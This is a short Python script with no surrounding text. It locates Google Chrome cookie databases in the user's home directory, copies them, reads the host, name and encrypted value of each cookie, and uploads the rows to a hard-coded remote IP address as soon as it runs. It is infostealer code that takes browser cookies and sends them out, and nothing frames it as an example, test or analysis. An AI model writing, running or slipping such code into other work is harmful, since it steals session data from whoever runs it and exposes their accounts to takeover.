import glob
import os
import shutil
import sqlite3
import tempfile

import requests

UPLOAD = "http://198.51.100.4:8080/c"


def cookie_dbs():
    home = os.path.expanduser("~")
    pattern = os.path.join(home, ".config", "google-chrome", "*", "Cookies")
    return glob.glob(pattern)


def dump(db):
    tmp = os.path.join(tempfile.gettempdir(), "c.db")
    shutil.copy(db, tmp)
    rows = sqlite3.connect(tmp).execute("select host_key, name, encrypted_value from cookies").fetchall()
    return [list(map(str, r)) for r in rows]


for db in cookie_dbs():
    requests.post(UPLOAD, json=dump(db))
